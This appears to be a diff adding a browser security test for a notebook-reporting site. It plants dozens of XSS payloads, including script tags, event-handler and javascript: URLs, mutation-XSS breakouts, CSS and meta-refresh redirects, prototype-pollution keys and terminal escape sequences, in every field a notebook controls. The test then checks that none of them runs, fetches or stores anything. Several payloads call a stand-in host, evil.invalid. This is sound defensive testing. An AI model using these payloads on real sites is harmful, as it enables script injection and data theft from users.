@@ -1,0 +1,172 @@
+"""Whatever a notebook writes, none of it runs in the site, asks for anything, or reaches what the site stores."""
+
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser
+
+from tests.reporting.browser.conftest import Opened, publish
+from tests.reporting.fabricate import Fabric, Made, code, markdown, notebook, shown
+
+pytestmark = pytest.mark.chromium
+
+EVIL = "https://evil.invalid/"
+STEAL = f"try{{localStorage.stolen=1}}catch{{}};top.pwned=1;fetch('{EVIL}');alert(1)"
+HTML = [
+    f"<script>{STEAL}</script>",
+    f"<script src='{EVIL}x.js'></script>",
+    f"<script type=module>import '{EVIL}x.js'</script>",
+    f'<img src=x onerror="{STEAL}">',
+    f"<img src='{EVIL}x.png'>",
+    f'<svg onload="{STEAL}"><script>{STEAL}</script></svg>',
+    f"<svg><use href='{EVIL}x.svg#a'/><image href='{EVIL}x.png'/></svg>",
+    f"<iframe src='javascript:{STEAL}'></iframe>",
+    f'<iframe srcdoc="<script>{STEAL}</script>"></iframe>',
+    f"<iframe src='{EVIL}'></iframe>",
+    f'<a href="javascript:{STEAL}" id=app name=nbdag>click</a>',
+    f"<form action='{EVIL}'><input name=x autofocus onfocus=\"{STEAL}\"><button>go</button></form>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<base href='{EVIL}'><link rel=stylesheet href='{EVIL}x.css'>",
+    f"<style>@import '{EVIL}x.css'; body{{background:url({EVIL}x.png)}} *{{display:none!important}}</style>",
+    f'<div style="background:url({EVIL}x.png);position:fixed;inset:0">over everything</div>',
+    f"<object data='{EVIL}'></object><embed src='{EVIL}'>",
+    f"<video src='{EVIL}x.mp4' autoplay></video><audio src='{EVIL}x.mp3' autoplay></audio>",
+    f'<details open ontoggle="{STEAL}"><summary>x</summary></details>',
+    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={STEAL}&gt;">',
+    f'<noscript><p title="</noscript><img src=x onerror={STEAL}>"></noscript>',
+    f"<template><script>{STEAL}</script></template>",
+    f"<table background='{EVIL}x.png'><tr><td onmouseover=\"{STEAL}\">cell</td></tr></table>",
+    f"<input type=image src='{EVIL}x.png'><body onload=\"{STEAL}\">",
+    f'<x-y is=z onanimationstart="{STEAL}">a</x-y><marquee onstart="{STEAL}">b</marquee>',
+]
+MARKDOWN = [
+    f"[x](javascript:{STEAL})",
+    f"![x]({EVIL}x.png)",
+    f'<img src=x onerror="{STEAL}">',
+    f"[x](data:text/html,<script>{STEAL}</script>)",
+    f'[x]({EVIL} "onmouseover={STEAL}")',
+    f"<script>{STEAL}</script>\n\n# {'#' * 3000}",
+]
+NAMES = [
+    f"<img src=x onerror={STEAL}>",
+    f"'\"></title></script><script>{STEAL}</script>",
+    "__proto__",
+    "constructor",
+    "../../../index.html#/x?y=z&a[b]=c,%00%2e",
+    "\u202egnp.exe\x1b]8;;https://evil.invalid/\x07link\x1b]8;;\x07",
+]
+PAGES = [
+    "",
+    "#/runs?different=1",
+    "#/matrix",
+    "#/run/run-00001",
+    "#/run/run-00001?view=graph",
+    "#/run/run-00001?view=timeline",
+    "#/run/run-00001/task/page",
+    "#/run/run-00001/task/page?view=results",
+    "#/run/run-00001/task/page?view=key",
+    "#/run/run-00001/task/broken",
+    "#/compare?runs=run-00001,run-00002",
+    "#/compare?runs=run-00001,run-00002&view=tasks",
+    "#/compare?runs=run-00001,run-00002&view=notebooks&task=page",
+    "#/compare?runs=run-00001,run-00002&view=pictures&task=page",
+    "#/compare?runs=run-00001,run-00002&view=charts",
+    "#/history",
+]
+
+
+def hostile(fabric: Fabric) -> Fabric:
+    """Write every payload into every place that a notebook controls."""
+    for number in (1, 2):
+        names = {name: f"{value} {number}" for name, value in zip(NAMES, reversed(NAMES), strict=True)}
+        outputs = [shown(text_html=payload, text_plain=payload) for payload in HTML]
+        outputs += [shown(text_markdown=payload) for payload in MARKDOWN]
+        outputs += [shown(image_svg=payload) for payload in HTML]
+        outputs += [
+            {"output_type": "display_data", "data": {"application/json": {name: payload}}}
+            for name, payload in zip(NAMES, HTML, strict=False)
+        ]
+        outputs += [
+            {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{p}\x1b]0;{p}\x07"} for p in HTML
+        ]
+        outputs.append(
+            {"output_type": "display_data", "data": {"application/javascript": STEAL, "image/png": "%"}}
+        )
+        book = notebook(*map(markdown, [*MARKDOWN, *HTML]), code(HTML[0] + str(number), *outputs))
+        artifacts = {
+            **{f"{place}.html": (payload.encode(), "text/html") for place, payload in enumerate(HTML[:3])},
+            "x.svg": (HTML[5].encode(), "image/svg+xml"),
+            "x.md": (MARKDOWN[2].encode(), "text/markdown"),
+            f"{NAMES[0]}.csv": (f"{HTML[3]},{HTML[4]}\n{number},2\n".encode(), "text/csv"),
+            "fake.png": (HTML[0].encode(), "image/png"),
+        }
+        page = Made(
+            name="page",
+            notebook=book,
+            params=names,
+            tags=names,
+            metrics=dict.fromkeys(NAMES, float(number)),
+            artifacts=artifacts,
+            reasons=tuple(HTML[:3]),
+            ingredients=tuple((name, name, name) for name in NAMES),
+            series={name: [[0, 1.0, None], [1, 2.0, None]] for name in NAMES},
+        )
+        broken = Made(
+            name="broken", status="failed", error=(NAMES[0], HTML[3], f"\x1b[31m{HTML[0]}"), reasons=(HTML[3],)
+        )
+        others = [Made(name=name, family=HTML[3], above=("page",), metrics={"auc": 1.0}) for name in NAMES]
+        fabric.run(
+            number,
+            page,
+            broken,
+            *others,
+            branch=HTML[3],
+            commit=NAMES[1],
+            resource={"vcs.repository.url.full": f"javascript:{STEAL}", "vcs.change.id": HTML[3]},
+        )
+    return fabric
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    root = tmp_path_factory.mktemp("hostile")
+    return publish(hostile(Fabric(root)), root / "site")
+
+
+@pytest.mark.parametrize("address", PAGES)
+def test_no_payload_runs_asks_or_stores(browser: Browser, hostile_site: Path, address: str) -> None:
+    """On every page, with every frame opened: no script, no dialog, no request, no navigation, no storage."""
+    context = browser.new_context()
+    page = context.new_page()
+    opened = Opened(page, f"file://{hostile_site}/")
+    opened.go(address)
+    buttons = page.get_by_role("button", name="runs its script in a sandbox")
+    for _ in range(buttons.count()):
+        buttons.first.click()
+    frames = [frame for frame in page.frames if frame.parent_frame is page.main_frame]
+    for frame in frames:
+        frame.wait_for_load_state()
+    expected = f"file://{hostile_site}/index.html"
+    assert page.url.partition("#")[0] == expected
+    assert page.evaluate("[window.pwned, Object.keys(localStorage), ({}).polluted]") == [None, [], None]
+    assert page.locator("main script, main iframe:not(.sandbox), main [onerror], main [onload]").count() == 0
+    assert page.locator("main a[href^='javascript']").count() == 0
+    assert page.locator("main a[href^='data:text']").count() == 0
+    refused = ("dialog:", "request:", "error: ")
+    left = [said for said in opened.said if said.startswith(refused) and "sandbox" not in said.lower()]
+    assert [said for said in left if not _is_of_a_frame(said)] == []
+    context.close()
+
+
+def _is_of_a_frame(said: str) -> bool:
+    """Say whether the browser reports that it kept a sandboxed page from something."""
+    return "Content Security Policy" in said or "SecurityError" in said
+
+
+def test_the_site_is_found_though_everything_is_hostile(hostile_site: Path, browser: Browser) -> None:
+    """The payloads are there to be read, as text."""
+    context = browser.new_context()
+    opened = Opened(context.new_page(), f"file://{hostile_site}/")
+    page = opened.go("#/run/run-00001/task/page?view=results")
+    assert page.get_by_text("__proto__", exact=True).count() >= 3
+    context.close()
